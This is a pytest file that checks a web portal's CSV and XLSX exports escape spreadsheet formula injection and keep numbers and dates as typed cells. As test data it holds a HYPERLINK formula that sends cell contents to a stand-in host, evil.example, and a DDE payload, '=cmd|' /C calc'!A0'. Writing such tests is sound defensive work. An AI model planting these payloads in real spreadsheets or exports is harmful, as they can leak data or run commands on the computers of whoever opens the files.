"""Every export writes typed text as text, never as a formula (OWASP "CSV Injection"), and
numbers and dates as typed cells (portal.spreadsheets)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from portal import spreadsheets
from tests.conftest import login
from tests.factories import make_org, make_user

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", STARTS)
def test_a_cell_that_would_start_a_formula_is_marked_as_text(text):
    row = next(csv.reader(io.StringIO(spreadsheets.csv_text([[text, "Pordenone"]]))))
    assert row[0] == "'" + text
    assert row[1] == "Pordenone"


def test_numbers_and_dates_keep_their_machine_form_in_csv():
    text = spreadsheets.csv_text([[Decimal("-12.50"), -3, date(2027, 1, 2), None, True]])
    assert text.strip() == "-12.50,-3,2027-01-02,,yes"


def test_xlsx_cells_are_typed_and_text_is_never_a_formula():
    book = Workbook()
    spreadsheets.append(book.active, [ATTACK, Decimal("1234.50"), date(2027, 1, 2), 7])
    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(book))).active
    text, money, day, count = sheet[1]
    assert text.data_type == "s" and text.value == ATTACK
    assert money.data_type == "n" and money.number_format == spreadsheets.MONEY_FORMAT
    assert day.is_date and count.value == 7


def test_the_attendance_register_of_an_event_neutralises_guest_names(client, db_session):
    from portal.network import services
    from tests.portal.test_network_support import make_event

    org = make_org("service")
    manager = make_user("broker", org=org)
    event = make_event(org)
    guest = make_user("buyer")
    registration = services.register_user(event, guest)
    registration.name = ATTACK
    login(client, manager)
    text = client.get(f"/events/{event.id}/attendance.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'" + ATTACK]


def test_the_portfolio_exports_write_centre_product_and_officer_names_as_text(db_session):
    from microcredit import portfolio
    from tests.microcredit.factories import make_loan, make_member, make_officer, make_product
    from tests.microcredit.factories import today as mc_today

    officer = make_officer()
    officer.full_name = "=cmd|' /C calc'!A0"
    product = make_product(officer, name="+Microcredito")
    make_loan(officer, make_member(officer), product=product)
    report = portfolio.portfolio_report(product.organisation_id, mc_today())

    text = portfolio.to_csv(report)
    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
    assert "'+Microcredito" in cells and "+Microcredito" not in cells
    sheet = load_workbook(io.BytesIO(portfolio.to_xlsx(report))).active
    typed = [c for row in sheet.iter_rows() for c in row if c.value == "+Microcredito"]
    assert typed and all(c.data_type == "s" for c in typed)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
